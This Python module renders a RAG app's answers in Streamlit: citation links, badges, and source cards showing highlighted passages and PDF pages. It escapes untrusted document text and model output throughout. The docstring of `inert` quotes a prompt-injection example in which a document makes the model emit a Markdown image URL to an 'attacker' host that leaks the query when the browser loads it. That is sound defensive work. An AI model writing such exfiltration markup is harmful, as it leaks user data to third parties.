"""Rendering an answer: text with [n] linked to its source card, mode badge, latency, notices (stopped, cut
at the token limit, LLM fallback, nothing cited), one card per citation: the cited sentence marked inside
its passage, and the original (a PDF page with the quote boxed, or the passage in its document).

Documents and model output are untrusted: answer text goes through ``inert`` (Markdown with links,
images and HTML disarmed; the only links are the [n] anchors made here), passages through
``html.escape`` before any markup of ours is put around them.
"""

from __future__ import annotations

import html
import re
from pathlib import Path

import streamlit as st

from app.ui.common import ui_services
from app.ui.i18n import t
from core.errors import ZhiwenError
from core.models import Answer, Citation
from core.settings import Settings
from ingest.originals import (
    original_file,
    original_shows_masked,
    pdf_rendering_available,
    render_pdf_page,
)
from llm.sources import Passage, cited_passage, document_context, uncited_sources

_BADGE = {"llm": ("mode_llm", "blue"), "extractive": ("mode_extractive", "green"), "refused": ("mode_refused", "orange")}
CARD_CONTEXT_CHARS = 120  # of the passage around the cited span shown on a card; the rest behind "whole passage"


def badge(answer: Answer) -> str:
    key, colour = _BADGE["refused" if answer.refused else answer.mode]
    label = t(key) + (f" · {answer.model}" if answer.mode == "llm" and answer.model and not answer.refused else "")
    if "total" not in answer.timings_ms:  # a stopped answer was never timed
        return f":{colour}-badge[{label}]"
    latency = f"{answer.timings_ms['total']:.0f} ms"
    cached = f" · {t('cached')}" if answer.flags.cached else ""
    return f":{colour}-badge[{label}] :gray-badge[{latency}{cached}]"


_MARKUP = str.maketrans({c: "\\" + c for c in "\\![]()<>"})


def inert(text: str) -> str:
    """Answer text for st.markdown with images, links, autolinks and HTML disarmed: a document can tell
    the model to write ``![](https://attacker/?q=…)``, which a browser would fetch. Escaping is per
    character, so it is safe on streamed tokens too; ``[1]`` still shows as ``[1]``."""
    return text.translate(_MARKUP)


def anchor(turn: int, n: int) -> str:
    """The id of source card [n] under answer ``turn`` (ids are ours: digits only, never document text)."""
    return f"zw-src-{turn}-{n}"


_INERT_MARKER_RE = re.compile(r"\\\[(\d{1,3})\\\]")


def linked(text: str, turn: int, cited: set[int]) -> str:
    """``inert(text)`` with each [n] that has a card made a link to it (in-page: no request leaves)."""
    def link(m: re.Match[str]) -> str:
        n = int(m.group(1))
        return f"[\\[{n}\\]](#{anchor(turn, n)})" if n in cited else m.group(0)

    return _INERT_MARKER_RE.sub(link, inert(text))


def highlighted(text: str, start: int, end: int) -> str:
    """HTML with text[start:end] marked; everything escaped (documents are data, never markup)."""
    start, end = max(0, start), min(len(text), end)
    return (
        html.escape(text[:start]) + "<mark>" + html.escape(text[start:end]) + "</mark>" + html.escape(text[end:])
    ).replace("\n", "<br>")


def _passage_html(p: Passage) -> str:
    return ("… " if p.clipped_before else "") + highlighted(p.text, p.start, p.end) + (" …" if p.clipped_after else "")


def _source_name(source: str) -> str:
    return source.replace("\\", "/").rsplit("/", 1)[-1]


@st.cache_data(max_entries=32, show_spinner=False)
def _page_image(path: str, mtime_ns: int, page: int, quote: str):
    """Rendering a page costs ~0.1 s: once per (file version, page, quote) per server."""
    del mtime_ns  # part of the cache key only
    return render_pdf_page(Path(path), page, quote)


def _is_pdf(path: Path) -> bool:
    with open(path, "rb") as f:
        return f.read(1024).lstrip().startswith(b"%PDF-")


def show_original(citation: Citation, kb_name: str, settings: Settings) -> None:
    """The cited page of a PDF with the quote boxed; for other files (or without a renderer) the cited
    sentence in its document's text. A download of the original when it is still the ingested file. A
    page (or file) holding what the answer's rules mask (PII) is shown as masked text only."""
    services = ui_services()
    path = original_file(kb_name, citation.source, settings, services)
    page_masked = path is not None and original_shows_masked(kb_name, citation.source, settings, services, citation.page)
    if page_masked:
        st.caption(t("original_masked"))
    if path is not None and not page_masked and citation.page and _is_pdf(path) and pdf_rendering_available():
        page = _page_image(str(path), path.stat().st_mtime_ns, citation.page, citation.quote)
        if page is not None:
            key = "page_of" if page.boxes else "page_of_unmarked"
            st.image(page.png, caption=t(key, page=page.page, pages=page.n_pages), width="stretch")
    else:
        if path is None:
            st.caption(t("original_gone"))
        context = document_context(kb_name, citation, settings, services)
        if context is not None:
            st.markdown(f"<div class='zw-passage'>{_passage_html(context)}</div>", unsafe_allow_html=True)
    if path is not None and not original_shows_masked(kb_name, citation.source, settings, services):
        st.download_button(t("download_original"), path.read_bytes(), file_name=_source_name(citation.source),
                           key=f"zw-dl-{citation.chunk_id}-{citation.start}-{citation.n}", icon="📥", on_click="ignore")


def source_card(citation: Citation, kb_name: str, settings: Settings, turn: int, cited: bool = True) -> None:
    name = html.escape(_source_name(citation.source))
    page = f" · {html.escape(t('page', page=citation.page))}" if citation.page else ""
    tag = "" if cited else f" <span class='zw-uncited'>{html.escape(t('not_cited'))}</span>"
    card_id = f" id='{anchor(turn, citation.n)}'" if cited else ""
    with st.container(border=True):
        st.markdown(f"<div class='zw-card-title'{card_id}><strong>[{citation.n}] {name}</strong>{page}{tag}</div>", unsafe_allow_html=True)
        try:
            passage = cited_passage(kb_name, citation, settings, ui_services())
        except ZhiwenError:  # the knowledge base is gone
            st.caption(t("source_gone"))
            return
        shown = Passage.window(passage.text, passage.start, passage.end, CARD_CONTEXT_CHARS)
        st.markdown(f"<div class='zw-quote'>{_passage_html(shown)}</div>", unsafe_allow_html=True)  # HTML: "# 标题" stays text
        if shown.clipped_before or shown.clipped_after:
            with st.expander(t("whole_chunk")):
                st.markdown(f"<div class='zw-passage'>{_passage_html(passage)}</div>", unsafe_allow_html=True)
        label = t("show_page", page=citation.page) if citation.page else t("show_context")
        if st.toggle(label, key=f"zw-orig-{turn}-{citation.n}-{int(cited)}"):
            show_original(citation, kb_name, settings)


def render_answer(answer: Answer, kb_name: str, settings: Settings, turn: int, stopped: bool = False) -> None:
    cited = {c.n for c in answer.citations}
    st.markdown(linked(answer.text, turn, cited))
    st.markdown(badge(answer))
    if stopped:
        st.caption("⏹️ " + t("stopped"))
    if answer.flags.truncated:
        st.warning(t("truncated", n=settings.llm_max_tokens), icon="✂️")
    if answer.flags.llm_error:
        st.warning(t("llm_failed", reason=answer.flags.llm_error))
    for citation in answer.citations:
        source_card(citation, kb_name, settings, turn)
    if answer.flags.uncited and not answer.refused:
        try:
            given = uncited_sources(answer, kb_name, settings, ui_services())
        except ZhiwenError:
            given = []
        st.info(t("uncited_sources") if given else t("uncited"))
        for citation in given:
            source_card(citation, kb_name, settings, turn, cited=False)


STYLE = """
<style>
.zw-quote, .zw-passage { font-size: 0.92rem; line-height: 1.6; }
.zw-quote mark, .zw-passage mark { background: #fff3b0; padding: 0 2px; }
.zw-card-title { scroll-margin-top: 4rem; }
.zw-card-title:target { background: #fff3b0; border-radius: 4px; transition: background 0.6s; }
.zw-uncited { background: #eee; color: #555; border-radius: 4px; padding: 0 6px; font-size: 0.8rem; }
</style>
"""
